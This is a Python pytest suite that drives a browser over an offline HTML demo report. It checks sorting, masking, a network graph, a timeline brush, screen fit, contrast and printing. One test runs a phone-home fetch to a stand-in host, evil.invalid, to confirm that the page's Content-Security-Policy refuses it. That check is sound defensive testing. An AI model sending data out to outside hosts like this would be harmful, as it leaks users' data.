"""The demo's page as a reader has it: it opens offline, works with mouse and keyboard, fits every screen, prints."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

pytestmark = pytest.mark.browser
Look = Callable[..., Any]


def test_it_opens_offline_and_quietly(demo: Path, look: Look) -> None:
    """No request, no word on the console, every chart drawn, code folded away, values masked."""
    seen = look(demo / "report.html")
    assert seen.requests == []
    assert seen.console == []
    assert seen.page.locator(".vega svg").count() == seen.page.locator(".vega").count() >= 6
    assert seen.page.get_by_text("could not be drawn").count() == 0
    assert seen.page.locator(".dropped").count() == 0
    assert not seen.page.locator("details.code").first.is_visible()
    assert seen.page.locator(".mask").count() > 5
    assert seen.page.locator(".mask.shown").count() == 0


def test_the_policy_refuses_a_fetch(demo: Path, look: Look) -> None:
    """A script that tried to phone home, from the console even, is stopped by the page itself."""
    page = look(demo / "report.html").page
    tried = "fetch('https://evil.invalid/x').then(() => 'sent', () => 'refused')"
    assert page.evaluate(tried) == "refused"
    assert page.evaluate("(() => { try { return eval('1+1') } catch { return 'refused' } })()") in ("refused", 2)
    policy = page.locator("meta[http-equiv='Content-Security-Policy']").get_attribute("content") or ""
    assert "unsafe-eval" not in policy
    assert "script-src 'sha256-" in policy
    assert re.search(r"script-src[^;]*unsafe", policy) is None
    first = (demo / "report.html").read_text(encoding="utf-8").split("<head>")[1].lstrip()
    assert first.startswith('<meta http-equiv="Content-Security-Policy"'), "nothing comes before the policy"


def test_tables_sort_by_value(demo: Path, look: Look) -> None:
    page = look(demo / "report.html").page
    head = page.locator("#size th .sort").nth(2)

    def column() -> list[float]:
        cells = page.locator("#size tbody td:nth-child(3)").all_inner_texts()
        return [float(cell.replace(",", "")) for cell in cells]

    head.focus()
    page.keyboard.press("Enter")
    assert column() == sorted(column())
    page.keyboard.press("Enter")
    assert column() == sorted(column(), reverse=True)
    assert page.locator("#size th").nth(2).get_attribute("aria-sort") == "descending"
    assert "descending" in (page.text_content("#status") or "")


def test_masks_open_by_intent(demo: Path, look: Look) -> None:
    page = look(demo / "report.html").page
    first = page.locator(".mask").first
    assert "blur" in first.locator("bdi").evaluate("e => getComputedStyle(e).filter")
    first.focus()
    page.keyboard.press("Enter")
    assert page.locator(".mask.shown").count() == 1
    assert first.get_attribute("aria-label") is None
    page.click("#toggle-mask")
    assert page.locator(".mask.shown").count() == page.locator(".mask").count()
    page.click("#toggle-mask")
    assert page.locator(".mask.shown").count() == 0


def test_code_folds_out(demo: Path, look: Look) -> None:
    page = look(demo / "report.html").page
    page.click("#toggle-code")
    assert page.locator("details.code pre").first.is_visible()
    page.click("#toggle-code")
    assert not page.locator("details.code pre").first.is_visible()


def _network(page: Any) -> Any:
    network = page.locator("#network .tk-graph")
    network.scroll_into_view_if_needed()
    page.wait_for_selector("#network .tk-graph[data-ready=yes]")
    return network


def test_the_network_answers_to_keys_and_legend(demo: Path, look: Look) -> None:
    """Arrows go from node to node and say what it is; a kind can be hidden; every step can be taken back."""
    page = look(demo / "report.html").page
    network = _network(page)
    status = network.locator("[role=status]")
    assert re.fullmatch(r"\d+ nodes, \d+ edges, 0 selected", status.inner_text())
    network.locator(".tk-stage").focus()
    for key in ("ArrowRight", " ", "g"):
        page.keyboard.press(key)
    grown = int(re.search(r"(\d+) selected", status.inner_text())[1])  # type: ignore[index]  # the line always counts
    assert grown > 1
    assert network.locator(".tk-side li").count() > 1
    page.keyboard.press("h")
    assert f"{grown} not shown" in status.inner_text()
    page.keyboard.press("u")
    assert "not shown" not in status.inner_text()
    chip = network.locator(".tk-legend button").last
    chip.click()
    assert chip.get_attribute("aria-pressed") == "false"
    assert "not shown" in status.inner_text()


def test_the_wheel_belongs_to_the_page_until_somebody_means_the_network(demo: Path, look: Look) -> None:
    page = look(demo / "report.html").page
    box = _network(page).locator(".tk-stage").bounding_box()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    before = page.evaluate("scrollY")
    page.mouse.wheel(0, 200)
    page.wait_for_timeout(400)
    assert page.evaluate("scrollY") > before


def test_who_is_picked_in_one_place_is_picked_in_all(demo: Path, look: Look, seeds: list[str]) -> None:
    """A box in the network, the lanes of the timeline, a row of a table: each moves the other two, without a kernel."""
    page = look(demo / "report.html").page
    network, bar = _network(page), page.locator("#picked")
    box = network.locator(".tk-stage").bounding_box()
    page.keyboard.down("Shift")
    page.mouse.move(box["x"] + 5, box["y"] + 5)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] - 5, box["y"] + box["height"] * 0.7, steps=5)
    page.mouse.up()
    page.keyboard.up("Shift")
    page.wait_for_timeout(300)
    many = int(re.match(r"\d+", bar.inner_text())[0])  # type: ignore[index]  # the bar begins with a number
    picked = set(page.locator("tr.picked").evaluate_all("all => all.map(row => row.dataset.account)"))
    assert 1 < len(picked) <= many
    assert page.locator("tr.unpicked").count() > 0
    bar.get_by_role("button").click()
    assert page.locator("tr.picked, tr.unpicked").count() == 0
    assert ", 0 selected" in network.locator("[role=status]").inner_text()
    row = page.locator(f"#who-belongs tr[data-account={seeds[0]}]")
    row.locator("td").last.click()
    page.wait_for_timeout(400)
    assert ", 1 selected" in network.locator("[role=status]").inner_text()
    lanes = (
        page.locator("#timeline .vega").filter(has_text="drag to choose a time").locator(".mark-symbol.role-mark path")
    )
    shown = lanes.evaluate_all("all => all.map(e => e.getAttribute('opacity'))")
    assert {"0.05", "1"} >= set(shown) > {"0.05"}


def test_a_finding_leads_to_its_rows_and_their_file(demo: Path, look: Look) -> None:
    page = look(demo / "report.html").page
    finding = page.locator(".finding.linked_set").first
    accounts = finding.locator("bdi[data-id]").evaluate_all("names => names.map(name => name.dataset.id)")
    finding.get_by_role("button", name="Show their rows").click()
    shown = page.locator("tr.picked")
    assert set(shown.evaluate_all("rows => rows.map(row => row.dataset.account)")) <= set(accounts)
    assert shown.first.evaluate("row => row.getBoundingClientRect().top") < 900  # it was scrolled to
    file = finding.locator("dd a").first.get_attribute("href")
    assert (demo / str(file)).is_file()
    gap = page.locator(".finding.data_gap .rows")
    assert not any(button.is_visible() for button in gap.all())  # no account, no rows


def test_labels_of_the_still_network_do_not_overlap(demo: Path, look: Look) -> None:
    page = look(demo / "report.html").page
    boxes = (
        page.locator("#network .still .vega")
        .first.locator(".mark-text.role-mark text:not([stroke])")
        .evaluate_all(
            "all => all.map(e => { const b = e.getBoundingClientRect(); return [b.left, b.top, b.right, b.bottom] })"
        )
    )
    assert len(boxes) >= 8
    pairs = [(a, b) for i, a in enumerate(boxes) for b in boxes[:i]]
    overlap = [
        (a, b) for a, b in pairs if min(a[2], b[2]) - max(a[0], b[0]) > 2 and min(a[3], b[3]) - max(a[1], b[1]) > 3
    ]
    assert overlap == []


def test_a_brush_on_the_overview_chooses_what_the_lanes_show(demo: Path, look: Look) -> None:
    """In the saved page, without a kernel; the picture is as wide as its place."""
    page = look(demo / "report.html").page
    chart = page.locator("#timeline .vega").filter(has_text="drag to choose a time")
    chart.scroll_into_view_if_needed()
    box = chart.bounding_box()
    assert box
    assert abs(chart.locator("svg").evaluate("e => e.getBoundingClientRect().width") - box["width"]) < 2

    def chosen() -> int:
        return int(chart.locator(".concat_0_layer_1_marks text").text_content().replace(",", ""))

    def axis() -> list[str]:
        return chart.locator(".role-axis-label text").all_text_contents()

    every, before = chosen(), axis()
    bars = chart.locator("[class*='role-mark view_']").first.bounding_box()
    assert bars
    y = bars["y"] + bars["height"] / 2
    page.mouse.move(bars["x"] + 0.3 * bars["width"], y)
    page.mouse.down()
    page.mouse.move(bars["x"] + 0.5 * bars["width"], y, steps=8)
    page.mouse.up()
    page.wait_for_timeout(300)
    assert 0 < chosen() < every
    assert axis() != before


def test_contents_lead_to_their_sections(demo: Path, look: Look) -> None:
    page = look(demo / "report.html").page
    links = page.locator("#toc a").all()
    assert len(links) > 12
    for link in links:
        assert page.locator(f"section{link.get_attribute('href')}").count() == 1
    links[6].click()
    page.wait_for_timeout(800)
    assert page.evaluate("scrollY") > 500


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 800, 390])
def test_it_fits_every_screen(width: int, scheme: str, demo: Path, look: Look) -> None:
    """Nothing sticks out sideways; text stands out from its ground in both schemes."""
    page = look(demo / "report.html", viewport={"width": width, "height": 900}, color_scheme=scheme).page
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    # The first screen answers: mark, title, bottom line.
    assert (page.locator(".lead").bounding_box() or {})["y"] < 900
    contrast = """selector => {
      const parts = (c) => c.match(/[\\d.]+/g).slice(0, 3).map(Number);
      const even = (v) => (v /= 255) <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4;
      const light = (c) => { const [r, g, b] = parts(c).map(even); return .2126 * r + .7152 * g + .0722 * b; };
      const e = document.querySelector(selector), ink = light(getComputedStyle(e).color),
        ground = light(getComputedStyle(document.body).backgroundColor);
      return (Math.max(ink, ground) + .05) / (Math.min(ink, ground) + .05);
    }"""
    for selector in ("body", ".lead", "figcaption", "dt", "#toc a", ".finding h3"):
        assert page.evaluate(contrast, selector) >= 4.5, selector


def test_masked_values_do_not_print(demo: Path, look: Look) -> None:
    """On paper a mask is a word, not a blur, and what scrolled is there whole."""
    page = look(demo / "report.html").page
    page.emulate_media(media="print")
    assert page.locator(".mask").first.evaluate("e => getComputedStyle(e).fontSize") == "0px"
    assert page.locator(".mask").first.evaluate("e => getComputedStyle(e, '::after').content") == '"[masked]"'
    clipped = page.locator(".scroll").evaluate_all(
        "all => all.filter(e => getComputedStyle(e).overflowY !== 'visible').length"
    )
    assert clipped == 0
    assert len(page.pdf(format="A4")) > 50_000
